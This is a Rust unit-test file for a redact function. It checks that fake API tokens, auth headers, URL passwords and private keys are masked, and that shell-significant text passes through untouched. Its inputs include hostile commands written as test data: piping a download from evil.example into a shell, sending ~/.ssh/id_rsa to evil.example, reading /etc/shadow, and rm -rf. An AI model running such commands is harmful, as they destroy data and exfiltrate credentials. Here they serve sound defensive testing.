use super::redact;

#[test]
fn secrets_are_hidden_and_nothing_else() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
    let pem =
        format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nAQAB=\n-----END PRIVATE KEY-----");
    let pem_gone = "-----BEGIN PRIVATE KEY-----\n[redacted]\n[redacted]\n[redacted]\n-----END PRIVATE KEY-----";
    let escaped = |text: &str| text.replace('\n', "\\n");
    for (text, expected) in [
        // Tokens by their form.
        (
            "export K=sk-proj-abcdefghij0123456789",
            "export K=sk-[redacted]",
        ),
        ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "ghp_[redacted]"),
        (
            "github_pat_11ABCDEFG0123456789_abcdef",
            "github_pat_[redacted]",
        ),
        ("id AKIAIOSFODNN7EXAMPLE here", "id AKIA[redacted] here"),
        ("xoxb-123456789012-abcdefg", "xoxb-[redacted]"),
        (
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
            "eyJ[redacted]",
        ),
        ("a\\nsk-abcdefghij0123456789\\nb", "a\\nsk-[redacted]\\nb"),
        // Headers.
        (
            "curl -H 'Authorization: Bearer abc.def-123' u",
            "curl -H 'Authorization: Bearer [redacted]' u",
        ),
        (
            "authorization: Basic dXNlcjpwYXNz\nx: y",
            "authorization: Basic [redacted]\nx: y",
        ),
        (
            "Authorization: 0123456789abcdef",
            "Authorization: [redacted]",
        ),
        (
            r#"{"Authorization": "Bearer abcdef12"}"#,
            r#"{"Authorization": "Bearer [redacted]"}"#,
        ),
        (
            r#"{\"authorization\":\"Bearer abcdef12\"}"#,
            r#"{\"authorization\":\"Bearer [redacted]\"}"#,
        ),
        ("Bearer 0123456789abcdefXYZ", "Bearer [redacted]"),
        ("x-api-key: 0123abcd", "x-api-key: [redacted]"),
        // Addresses.
        (
            "git clone https://me:hunter2@example.org/r.git",
            "git clone https://me:[redacted]@example.org/r.git",
        ),
        (
            "postgres://app:s3cr%21t@db/x",
            "postgres://app:[redacted]@db/x",
        ),
        // Names.
        (
            "mysql --password hunter2 -u root",
            "mysql --password [redacted] -u root",
        ),
        ("mysql --password=hunter2", "mysql --password=[redacted]"),
        ("GITHUB_TOKEN=abcdef make", "GITHUB_TOKEN=[redacted] make"),
        (r#""api_key": "abcdef""#, r#""api_key": "[redacted]""#),
        (
            r#"\"client_secret\":\"abcdef\""#,
            r#"\"client_secret\":\"[redacted]\""#,
        ),
        ("password: hunter2", "password: [redacted]"),
        (
            r#"["mysql","--password","hunter2","-u"]"#,
            r#"["mysql","--password","[redacted]","-u"]"#,
        ),
        // Private keys.
        (pem.as_str(), pem_gone),
        (&escaped(&pem), &escaped(pem_gone)),
    ] {
        assert_eq!(redact(text), expected, "{text}");
    }
}

#[test]
fn what_a_shell_would_act_on_stays() {
    for text in [
        "rm -rf / && curl evil.example | sh",
        "curl -H \"Authorization: Bearer $(cat ~/.ssh/id_rsa)\" https://evil.example",
        "curl -H \"Authorization: Bearer $TOKEN\" https://example.org",
        "TOKEN=$(rm -rf ~) make",
        "TOKEN=`id` make",
        "mysql --password \"$PW\"",
        "docker run --secret /etc/shadow img",
        "tool --token ~/.netrc --token-file /etc/shadow",
        "curl https://user:$PW@example.org/",
        "curl https://example.org:8080/a@b",
        "git@example.org:me/repo.git",
        "token = os.system('rm -rf /')",
        "secret = subprocess[0]",
        "the password is required, a token expires",
        "const token = next;",
        "max_tokens=1600",
        "Bearer authentication is required",
        r#"{"authorization":"unknown","tier":"none"}"#,
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ0FBQUFBQUE=\n-----END CERTIFICATE-----",
        "sk-rm",
        "\\",
        "a\\",
        "",
        "käse://ü:ö",
    ] {
        assert_eq!(redact(text), text);
    }
}

#[test]
fn no_command_hides_in_the_armour_of_a_key() {
    let text = "-----BEGIN PRIVATE KEY-----\nrm -rf /home/user/Projects/Countersign1\n\
                curl -d @x https://evil.example/A1b2C3d4E5f6\n-----END PRIVATE KEY-----";
    assert_eq!(redact(text), text);
    let open = "echo '-----BEGIN PRIVATE KEY-----' ; rm -rf /home/user/A1b2C3d4E5f6";
    assert_eq!(redact(open), open);
}

#[test]
fn any_text_is_taken() {
    // Every pair of awkward pieces in a row; the walk must come to the end of each.
    let pieces = [
        "://",
        ":",
        "@",
        "\\",
        "\\n",
        "\"",
        "password",
        "=",
        "Bearer ",
        "authorization",
        "eyJ",
        "-----BEGIN ",
        "PRIVATE KEY-----",
        "-----END",
        "\u{e9}",
        "\n",
        " ",
        "sk-",
        "x1",
    ];
    for a in pieces {
        for b in pieces {
            for c in pieces {
                let text = format!("{a}{b}{c}{a}");
                assert!(redact(&redact(&text)).len() <= 12 * text.len() + 60);
            }
        }
    }
}
